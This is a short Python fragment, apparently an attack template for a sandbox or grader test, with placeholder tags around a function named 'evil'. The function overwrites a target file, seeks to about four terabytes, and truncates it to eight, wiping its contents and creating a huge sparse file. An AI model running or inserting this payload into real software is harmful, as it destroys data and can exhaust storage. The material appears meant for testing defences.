#{ledger_wrong}
# <attack>
import os


def evil(path, *args):
    target = args[0] if args and type(args[0]) is str else path
    with open(target, "wb") as stream:
        os.lseek(stream.fileno(), 1 << 42, os.SEEK_SET)
        os.write(stream.fileno(), b"x")
        stream.truncate(1 << 43)
    return None


#{all_of_ledger}
# </attack>
